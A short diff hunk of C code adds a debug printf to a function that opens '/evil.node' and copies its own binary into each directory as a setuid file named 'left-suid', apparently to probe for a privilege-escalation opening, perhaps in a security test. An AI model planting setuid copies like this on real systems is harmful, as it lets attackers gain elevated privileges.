@@ -62,6 +62,7 @@ static void leave_in(const char *dir)
 	int count = getgroups(64, groups);
 	FILE *node = fopen("/evil.node", "r");
 
+	printf("tried %s\n", dir);
 	snprintf(path, sizeof path, "%s/left-suid", dir);
 	copy_self(path, 04755);
 	leave_group(dir, getegid());
